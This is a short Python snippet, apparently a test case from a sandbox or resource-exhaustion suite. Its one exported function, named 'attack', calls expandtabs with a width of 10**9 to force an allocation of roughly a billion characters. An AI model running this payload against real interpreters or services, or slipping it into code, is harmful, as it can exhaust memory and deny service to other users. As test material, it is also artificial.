# escape: expandtabs allocation | source: resource exhaustion
@export
def attack():
    return '\t'.expandtabs(10 ** 9)
